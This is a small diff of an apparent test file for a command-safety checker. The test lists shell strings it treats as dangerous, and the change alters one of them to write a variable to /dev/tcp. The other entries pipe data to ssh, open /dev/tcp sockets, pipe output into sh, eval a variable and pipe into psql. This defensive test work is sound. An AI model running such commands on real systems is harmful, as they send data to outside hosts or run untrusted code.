@@ -120,7 +120,7 @@ test('a program that comes from elsewhere is dangerous', () => {
     'cat a | ssh h',
     'ls > >(sh)',
     'exec 3<>/dev/tcp/h/1',
-    'echo x > /dev/tcp/h/1',
+    'echo $x > /dev/tcp/h/1',
     'eval "$x"',
     'cat a | psql app',
   );
